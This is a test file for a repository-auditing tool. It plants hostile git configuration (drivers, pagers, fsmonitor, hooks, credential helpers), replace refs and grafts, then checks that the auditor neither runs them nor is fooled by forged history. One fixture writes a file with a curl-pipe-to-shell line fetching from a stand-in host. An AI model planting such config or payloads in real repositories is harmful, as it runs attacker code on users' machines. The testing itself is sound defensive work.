"""The audited party's repositories cannot make git run their programs or rewrite history.

Each test plants what a hostile repository can carry (drivers and hooks in its config, attributes
that apply them, replace refs, grafts) and runs the real stages on it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from support import GitRepo, export_tree, simple_case, write_spec

from auditor.gitio import Git
from auditor.gitseal import seal

# Every key of git's configuration that names a program (or a folder of programs) git may run.
PROGRAM_KEYS = (
    "diff.evil.textconv", "diff.evil.command", "filter.evil.process", "filter.evil.clean",
    "filter.evil.smudge", "merge.evil.driver", "diff.external", "core.fsmonitor", "core.pager",
    "pager.log", "pager.blame", "pager.show", "pager.diff", "gpg.program", "gpg.openpgp.program",
    "gpg.ssh.program", "gpg.x509.program", "uploadpack.packObjectsHook", "core.sshCommand",
    "core.askPass", "core.editor", "sequence.editor", "core.alternateRefsCommand",
    "core.gitProxy", "credential.helper",
)


def _plant(gitdir: Path, marks: Path) -> None:
    """Make ``gitdir`` hostile: every program key runs a script that leaves a mark (and passes its
    input through, so git would go on using its answer)."""
    marks.mkdir(exist_ok=True)
    script = gitdir / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch '{marks}'/\"ran-$$\"\ncat\n")
    script.chmod(0o755)
    hooks = gitdir / "evil-hooks"
    hooks.mkdir(exist_ok=True)
    for hook in ("pre-commit", "post-checkout", "post-merge", "reference-transaction",
                 "pre-auto-gc", "post-rewrite", "post-index-change", "pre-push"):
        (hooks / hook).write_text(f"#!/bin/sh\ntouch '{marks}'/hook-{hook}\n")
        (hooks / hook).chmod(0o755)
        (gitdir / "hooks").mkdir(exist_ok=True)
        (gitdir / "hooks" / hook).write_text(f"#!/bin/sh\ntouch '{marks}'/own-hook-{hook}\n")
        (gitdir / "hooks" / hook).chmod(0o755)
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull}
    for key in PROGRAM_KEYS:
        subprocess.run(["git", "--git-dir", str(gitdir), "config", key, str(script)],
                       check=True, env=env)
    for key, value in (("core.hooksPath", str(hooks)), ("log.showSignature", "true"),
                       ("filter.evil.required", "true"), ("diff.evil.cachetextconv", "false"),
                       ("core.attributesFile", str(gitdir / "evil.attributes")),
                       ("blame.ignoreRevsFile", ""), ("color.ui", "always"),
                       ("diff.algorithm", "minimal"), ("diff.noprefix", "true"),
                       ("core.autocrlf", "true"), ("gc.auto", "1")):
        subprocess.run(["git", "--git-dir", str(gitdir), "config", key, value], check=True,
                       env=env)
    attrs = "* diff=evil filter=evil merge=evil text\n*.py diff=evil filter=evil\n"
    (gitdir / "info").mkdir(exist_ok=True)
    (gitdir / "info" / "attributes").write_text(attrs)
    (gitdir / "evil.attributes").write_text(attrs)


def _bare(repo: GitRepo, dest: Path) -> Path:
    subprocess.run(["git", "clone", "-q", "--mirror", str(repo.path), str(dest)], check=True,
                   env={**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull})
    return dest


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "auditor", *args], capture_output=True,
                          text=True, cwd=cwd, timeout=600)


def test_planted_programs_never_run_in_any_command(tmp_path: Path) -> None:
    case = simple_case(tmp_path)
    repo: GitRepo = case["repo"]
    marks = tmp_path / "marks"
    upstream = _bare(repo, tmp_path / "upstream.git")
    patches = _bare(repo, tmp_path / "patches.git")
    for gitdir in (upstream, patches, repo.path / ".git"):
        _plant(gitdir, marks)
    # the planted drivers would run under plain git: the attack is real
    probe = subprocess.run(["git", "--git-dir", str(patches), "log", "-p", "-1", "series"],
                           capture_output=True, text=True,
                           env={**os.environ, "GIT_CONFIG_NOSYSTEM": "1"})
    assert list(marks.iterdir()), f"the planted programs did not run: {probe.stderr}"
    for m in marks.iterdir():
        m.unlink()
    spec = case["spec"]
    spec["upstream"]["repo"] = str(upstream)
    spec["patches"]["repo"] = str(patches)
    spec["scan"] = {"scope": "diff"}
    spec["deps"] = {"vulns": "none"}
    spec["review"] = {"file": "reviews.toml"}
    spec_path = write_spec(tmp_path / "audit.toml", spec)
    runs = [
        _cli("audit", str(spec_path), "--out", str(tmp_path / "out"), cwd=tmp_path),
        _cli("verify", str(spec_path), "--json", cwd=tmp_path),
        _cli("scan", str(spec_path), "--scope", "full", "--json", cwd=tmp_path),
        _cli("deps", str(spec_path), "--json", cwd=tmp_path),
        _cli("sbom", str(spec_path), "-o", str(tmp_path / "sbom.json"), cwd=tmp_path),
        _cli("review", "plan", str(spec_path), "--reviewers", "2", "--no-scan",
             "--out", str(tmp_path / "packets"), cwd=tmp_path),
        _cli("review", "status", str(spec_path), "--json", cwd=tmp_path),
    ]
    for res in runs:
        assert res.returncode in (0, 1, 3), (res.args, res.stderr[-2000:])
        assert "Traceback" not in res.stderr
    assert sorted(p.name for p in marks.iterdir()) == []
    audit = json.loads((tmp_path / "out" / "audit.json").read_text())
    assert audit["stages"]["verify"]["ok"] is True
    # the diffs the SBOM carries are git's own, not a textconv's answer
    sbom = (tmp_path / "sbom.json").read_text()
    assert "port=8000" in sbom


def test_sealed_view_reads_refs_and_objects_but_nothing_else(tmp_path: Path) -> None:
    case = simple_case(tmp_path)
    repo: GitRepo = case["repo"]
    gitdir = repo.path / ".git"
    _plant(gitdir, tmp_path / "marks")
    sealed = seal(repo.path, "[patches] repo")
    git = Git(sealed.path)
    assert git.rev_parse("series") == repo.head("series")
    assert git.rev_parse("v1.0.0") == repo.head("v1.0.0")
    assert git.rev_parse("HEAD") == repo.head("HEAD")
    blame = git.out("blame", "--porcelain", "series", "--", "engine/server.py")
    assert "port=8000" in blame
    show = git.out("show", "--patch", "series~1")
    assert "+def serve(host='127.0.0.1', port=8000):" in show
    assert list((tmp_path / "marks").iterdir()) == []
    assert not (sealed.path / "info").exists() and not (sealed.path / "hooks").exists()
    assert sealed.ignored.replace_refs == () and sealed.ignored.grafts is None


def _replace_attack(tmp_path: Path) -> dict:
    """One repository for upstream and patches: ``refs/replace/<upstream>`` shows upstream with the
    attacker's file in it, and the series is built on that view, so the series' own diffs never
    show the file."""
    repo = GitRepo(tmp_path / "engine")
    up = repo.commit("initial", files={"engine/__init__.py": "VERSION = '1.0.0'\n"})
    repo.tag("v1.0.0")
    # the forged upstream: the same commit with the attacker's file added
    repo.checkout("forge", new=True)
    forged = repo.commit("initial", files={
        "engine/evil.py": "import os\nos.system('curl https://x.example/i.sh | sh')\n"})
    repo.git("replace", "-f", up, forged)
    # the series, on the real upstream commit, with the file already in its trees
    repo.checkout("series", new=True, start="v1.0.0")
    repo.write("engine/evil.py", "import os\nos.system('curl https://x.example/i.sh | sh')\n")
    c1 = repo.commit("harmless refactor", files={"engine/util.py": "def helper():\n    return 1\n"})
    repo.git("branch", "-D", "forge")
    bundle = export_tree(repo, "series", tmp_path / "bundle")
    spec = {
        "engine": {"profile": "generic", "version": "1.0.0"},
        "upstream": {"repo": str(repo.path), "ref": "v1.0.0", "commit": up},
        "patches": {"ref": "series", "commits": [c1]},
        "bundle": {"path": str(bundle)},
        "scan": {"scope": "diff"},
    }
    return {"repo": repo, "spec": spec, "upstream": up, "c1": c1}


def test_replace_refs_never_count_and_are_reported(tmp_path: Path) -> None:
    case = _replace_attack(tmp_path)
    repo: GitRepo = case["repo"]
    # under plain git the forgery works: upstream shows the attacker's file
    shown = repo.git("ls-tree", "-r", "--name-only", case["upstream"])
    assert "engine/evil.py" in shown
    spec_path = write_spec(tmp_path / "audit.toml", case["spec"])
    res = _cli("audit", str(spec_path), "--out", str(tmp_path / "out"), cwd=tmp_path)
    assert res.returncode in (1, 3), res.stderr[-2000:]
    audit = json.loads((tmp_path / "out" / "audit.json").read_text())
    rules = {(f["rule"], f["path"]) for f in audit["findings"]}
    assert ("provenance.replace-refs", "") in rules
    replace = next(f for f in audit["findings"] if f["rule"] == "provenance.replace-refs")
    assert case["upstream"] in replace["message"] and "[upstream] repo" in replace["message"]
    assert str(tmp_path) not in replace["message"]
    # the file is in the series' change, scanned and tied to the commit that really added it
    evil = [f for f in audit["findings"] if f["path"] == "engine/evil.py"]
    assert evil and all(f["commit"] == case["c1"] for f in evil)
    assert audit["verdict"] in ("FAIL", "REVIEW")


def test_grafts_never_hide_a_commit_and_are_reported(tmp_path: Path) -> None:
    case = simple_case(tmp_path)
    repo: GitRepo = case["repo"]
    c1 = case["commits"][0]
    # a hidden commit between c1 and c2, then a graft that makes c2's parent c1 again
    repo.git("checkout", "-q", "-b", "hidden", c1)
    hidden = repo.commit("hidden", files={"engine/beacon.py": "import socket\n"})
    head = repo.commit("add helper", files={"engine/util.py": "def helper():\n    return 1\n"},
                       author="Fork Author <fork@community.example>")
    repo.git("branch", "-f", "series", head)
    repo.git("checkout", "-q", "series")
    (repo.path / ".git" / "info").mkdir(exist_ok=True)
    (repo.path / ".git" / "info" / "grafts").write_text(f"{head} {c1}\n")
    # plain git sees no hidden commit
    assert repo.git("rev-list", "v1.0.0..series").split() == [head, c1]
    bundle = export_tree(repo, "series", tmp_path / "bundle2")
    spec = {**case["spec"], "patches": {"ref": "series", "commits": [c1, head]},
            "bundle": {"path": str(bundle)}}
    spec_path = write_spec(tmp_path / "audit.toml", spec)
    res = _cli("verify", str(spec_path), "--json", cwd=tmp_path)
    assert res.returncode == 1, res.stderr[-2000:]
    data = json.loads(res.stdout)
    assert data["ok"] is False
    series = data["series"]
    assert hidden in series["unlisted"]
    assert any(f["rule"] == "provenance.grafts" for f in data["findings"])


@pytest.mark.parametrize("what", ["missing", "file", "plain-folder"])
def test_a_path_that_is_not_a_repository_is_exit_2(tmp_path: Path, what: str) -> None:
    case = simple_case(tmp_path)
    target = tmp_path / "not-a-repo"
    if what == "file":
        target.write_text("x")
    elif what == "plain-folder":
        target.mkdir()
    spec = case["spec"]
    spec["patches"]["repo"] = str(target)
    res = _cli("verify", str(write_spec(tmp_path / "audit.toml", spec)), cwd=tmp_path)
    assert res.returncode == 2, res.stderr
    assert ("[patches] repo" in res.stderr or "[patches.repo]" in res.stderr)
    assert "Traceback" not in res.stderr
